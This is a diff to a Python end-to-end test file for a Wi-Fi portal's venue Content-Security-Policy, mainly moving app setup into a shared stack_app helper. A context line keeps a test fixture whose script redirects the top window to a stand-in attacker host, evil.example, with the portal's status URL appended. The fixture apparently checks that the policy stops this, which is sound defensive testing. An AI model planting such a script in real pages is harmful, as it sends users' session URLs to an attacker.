@@ -14,9 +14,8 @@ from typing import Any
 import pytest
 from flask import Flask
 
-from portal.web import create_app
 from portal.web.venue_csp import venue_page_csp
-from tests.e2e.stack import Stack, phone, running_stack
+from tests.e2e.stack import Stack, phone, running_stack, stack_app
 
 EVIL_SUCCESS = """<!doctype html><p id="success">ok</p>
 <script>top.location="https://evil.example/"+"{{ status_url }}"</script>
@@ -32,9 +31,7 @@ def stack(redis_client: Any, redis_url: str, data_dir: Path) -> Iterator[Stack]:
 
 @pytest.fixture
 def app(stack: Stack) -> Flask:
-    app = create_app(stack.settings, stack.redis)
-    app.extensions["citywifi"].journey = stack.journey
-    return app
+    return stack_app(stack)
 
 
 def directives(policy: str) -> dict[str, list[str]]:
